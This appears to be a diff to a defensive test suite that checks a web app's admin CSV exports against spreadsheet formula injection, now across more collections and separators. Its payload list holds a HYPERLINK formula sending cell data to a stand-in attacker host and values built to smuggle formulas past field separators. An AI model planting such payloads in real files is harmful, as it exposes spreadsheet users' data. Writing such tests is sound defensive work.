@@ -26,7 +26,11 @@ const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1)',
   'x",=1+1,"',
   'x\r\n=1+1,=2+2',
+  'x;=1+1;y',
+  'x\t=1+1',
+  'x";=1+1;"y',
 ] as const
+const SEPARATORS = [',', ';', '\t'] as const
 const RUNS = /^[\s\p{Cf}"']*[=+\-@|]/u
 const isNumber = (text: string): boolean => /^[+-]?[\d .()-]+$/.test(text)
 
@@ -40,6 +44,11 @@ async function plant(formula: string): Promise<void> {
   await set('wroseasons', ['name', 'name_en'])
   await set('regions', ['ar_name'])
   await set('competions', ['name', 'name_en'])
+  await set('orders', ['buyer.name', 'items.name', 'items.schoolName', 'trx_reference'])
+  await set('invoices', ['buyer.name', 'buyer.address', 'payment.reference'])
+  await set('certificates', ['facts.team.name', 'facts.team.schoolName'])
+  await set('contactus', ['name', 'message'])
+  await set('audit', ['label', 'label_en', 'actor_name'])
   for (const collection of ['moetalents', 'wrosupports', 'championprogrames', 'teachertrainings']) {
     const names = new Set(
       (await em.getCollection(collection).find({}).toArray()).flatMap((record) => Object.keys(record)),
@@ -84,12 +93,13 @@ for (const { method, path } of routesIn(world.api.app)) {
 }
 
 describe('no spreadsheet reads a formula', () => {
-  it('in the exports that there are: of teams, people and the programmes’ forms', () => {
+  it('in the exports that there are: of teams, people, money, outcomes, messages, the log and the programmes’ forms', () => {
     expect(new Set(exports.map((path) => path.split('?')[0]))).toEqual(
       new Set(
-        ['users', 'teams', 'moe', 'wro-support', 'champion-programe', 'teacher-training'].map(
-          (name) => `/api/admin/${name}`,
-        ),
+        [
+          ...['users', 'teams', 'moe', 'wro-support', 'champion-programe', 'teacher-training'],
+          ...['transections', 'invoices', 'results', 'certificates', 'contactus', 'audit'],
+        ].map((name) => `/api/admin/${name}`),
       ),
     )
   })
@@ -103,7 +113,10 @@ describe('no spreadsheet reads a formula', () => {
         const csv = await world.as('admin', { path })
         expect(csv.status, csv.text.slice(0, 200)).toBe(200)
         expect(csv.text.replace(/\W/g, ''), `${path} holds what was planted`).toContain(formula.replace(/\W/g, ''))
-        expect(running(read(csv.text, { type: 'string', raw: true })), path).toEqual([])
+        // Which separator a spreadsheet takes for granted is the region's, not the file's.
+        for (const FS of SEPARATORS) {
+          expect(running(read(csv.text, { type: 'string', raw: true, FS })), `${path} at ${FS}`).toEqual([])
+        }
       }
       const season = world.things.ground.season._id.toHexString()
       const template = await world.as('admin', { path: `/api/admin/results/template?season=${season}&lang=en` })
